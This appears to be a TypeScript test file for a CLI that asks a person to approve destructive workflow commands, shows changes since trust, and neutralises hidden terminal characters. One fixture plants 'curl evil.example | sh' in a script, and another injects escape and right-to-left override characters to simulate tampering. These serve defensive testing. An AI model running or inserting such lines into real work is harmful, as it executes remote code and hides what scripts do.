import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { workflowVault, type WorkflowVault } from './workflow-vault';

const CLEAN = `workflow: clean
type: sequential
steps:
  - id: build
    run: [sh, build.sh]
    idempotent: true
  - id: sweep
    run: [git, clean, -fd]
  - id: drop
    run: [git, branch, -D, old]
`;
const SCRIPT = 'echo one\necho two\necho three\n';

let vault: WorkflowVault;

beforeEach(() => {
  vault = workflowVault();
  vault.put('workflows/clean.yaml', CLEAN);
  vault.put('build.sh', SCRIPT);
});
afterEach(() => {
  vault.close();
});

async function stateNow(): Promise<unknown> {
  const { trusted } = JSON.parse((await vault.run(['trust', '--list', '--json'])).out) as { trusted: { workflow: string; state: string }[] };
  return trusted.find(({ workflow }) => workflow === 'clean')?.state;
}

describe('trust in a terminal', () => {
  it('asks about every destructive command by itself, then about the whole', async () => {
    const trusted = await vault.talk(['trust', 'clean'], ['y', 'y', 'y']);

    expect([trusted.exit, await stateNow()]).toEqual([0, 'trusted']);
    expect(trusted.err).toMatch(/clean is not trusted on this device[\s\S]*It would run:[\s\S]*Destructive in sweep: git clean -fd[\s\S]*May this command run\? \[y\/N\] [\s\S]*Destructive in drop: git branch -D old[\s\S]*May this command run\? \[y\/N\] [\s\S]*Trust this on this device\? \[y\/N\]/);
  });

  it.each([[['n']], [['y', 'n']], [['y', 'y', 'n']], [['y', 'y']], [['y', 'yes please', 'y']]])('trusts nothing after %j', async (replies) => {
    const refused = await vault.talk(['trust', 'clean'], replies);

    expect([refused.exit, refused.err.includes('trust/not-agreed'), await stateNow()]).toEqual([1, true, undefined]);
  });

  it('shows the lines that changed since it was trusted, in the script and in the definition', async () => {
    await vault.talk(['trust', 'clean'], ['y', 'y', 'y']);
    vault.put('build.sh', SCRIPT.replace('echo two', 'curl evil.example | sh'));
    vault.put('workflows/clean.yaml', CLEAN.replace('-fd]', '-fdx]'));

    const again = await vault.talk(['trust', 'clean'], ['y', 'y', 'y']);

    expect(again.err).toContain('clean changed since you trusted it.');
    expect(again.err).toMatch(/file build\.sh: changed\n(?: {4} .*\n)* {4}- echo two\n {4}\+ curl evil\.example \| sh\n/);
    expect(again.err).toMatch(/workflow workflows\/clean\.yaml: changed\n(?:.*\n)*? {4}- {5}run: \[git, clean, -fd\]\n {4}\+ {5}run: \[git, clean, -fdx\]\n/);
    expect(again.err).toContain('Destructive in sweep: git clean -fdx');
    expect([again.exit, await stateNow()]).toEqual([0, 'trusted']);
  });

  it('shows them before a run in the same move, and runs nothing after a no', async () => {
    await vault.talk(['trust', 'clean'], ['y', 'y', 'y']);
    vault.put('build.sh', `${SCRIPT}touch ran\n`);

    const refused = await vault.talk(['workflow', 'run', 'clean'], ['y', 'y', 'n']);

    expect(refused.err).toMatch(/clean changed since you trusted it\.[\s\S]*\+ touch ran\n[\s\S]*Trust this and run clean\? \[y\/N\]/);
    expect([refused.exit, existsSync(join(vault.root, 'ran')), await stateNow()]).toEqual([1, false, 'changed']);
  });

  it('shows characters that hide what a line does instead of printing them', async () => {
    await vault.talk(['trust', 'clean'], ['y', 'y', 'y']);
    vault.put('build.sh', `${SCRIPT}echo \u001b[2K\u202emalicious\n`);

    const again = await vault.talk(['trust', 'clean'], ['n']);

    expect([again.err.includes('\u001b[2K'), again.err.includes('\u202e'), again.err.includes('malicious')]).toEqual([false, false, true]);
  });

  it('takes no script for a person: a destructive command stays unapproved with --yes', async () => {
    const { sha256 } = JSON.parse((await vault.run(['workflow', 'show', 'clean', '--json'])).out) as { sha256: string };

    const trusted = await vault.run(['trust', 'clean', '--yes', '--sha256', sha256]);

    expect([trusted.exit, trusted.err]).toEqual([0, expect.stringMatching(/Not approved: git clean -fd in sweep[\s\S]*Not approved: git branch -D old in drop/)]);
    expect((await vault.run(['workflow', 'run', 'clean'])).err).toContain('trust/destructive');
  });
});
